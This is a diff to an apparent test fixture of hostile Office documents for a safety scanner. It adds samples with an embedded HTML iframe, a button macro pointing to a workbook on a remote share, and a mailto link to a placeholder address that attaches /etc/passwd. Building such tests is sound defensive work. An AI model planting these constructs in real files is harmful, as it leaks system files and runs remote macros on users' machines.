@@ -250,6 +250,17 @@ HOSTILE_OFFICE = {
         LINK,
     ),
     "link said to be wrong": ("a.pptx", drawn(r'<a:hlinkClick invalidUrl="\\a"/>', "pptx"), LINK),
+    "film of the web": ("a.docx", drawn('<a:v embeddedHtml="&lt;iframe&gt;"/>'), EXTERNAL),
+    "macro of a button": (
+        "a.xlsx",
+        drawn(r"<a:FmlaMacro>'\\serveur\a.xlsm'!b</a:FmlaMacro>", "xlsx"),
+        MACROS,
+    ),
+    "link that takes a file along": (
+        "a.docx",
+        tied("hyperlink", "mailto:a@b.example?subject=c&amp;attach=/etc/passwd"),
+        LINK,
+    ),
     "macro of another workbook": (
         "a.xlsx",
         drawn(r"""<a:sp macro="'\\serveur\a.xlsm'!b"/>""", "xlsx"),
